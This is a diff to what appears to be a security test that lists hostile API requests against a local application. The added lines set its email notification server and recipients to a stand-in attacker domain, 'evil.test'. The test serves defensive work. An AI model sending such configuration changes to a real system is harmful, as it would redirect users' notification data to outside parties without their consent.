@@ -28,6 +28,8 @@ function attacks(folder: string): { method: string; path: string; body: unknown 
     { method: 'POST', path: '/api/sync/join', body: { url: 'ws://127.0.0.1:9/relay', workspace: 'w', token: 't' } },
     { method: 'POST', path: '/api/sync/leave', body: {} },
     { method: 'PUT', path: '/api/settings', body: { defaultAgent: 'echo' } },
+    { method: 'PUT', path: '/api/email', body: { email: { host: 'smtp.evil.test', tls: 'none', from: 'x@evil.test', recipients: ['x@evil.test'], events: ['completed'], imap: null } } },
+    { method: 'POST', path: '/api/email/test', body: { email: { host: '127.0.0.1', port: 9, tls: 'none', from: 'x@evil.test', recipients: ['x@evil.test'], events: [], imap: null } } },
     { method: 'POST', path: '/a2a', body: { jsonrpc: '2.0', id: 1, method: 'SendMessage', params: { message } } },
     { method: 'POST', path: '/v1/a2a', body: { jsonrpc: '2.0', id: 1, method: 'message/send', params: { message: { kind: 'message', messageId: 'x-2', role: 'user', parts: [{ kind: 'text', text: 'x' }] } } } },
     { method: 'POST', path: '/v1/message:send', body: { message } },
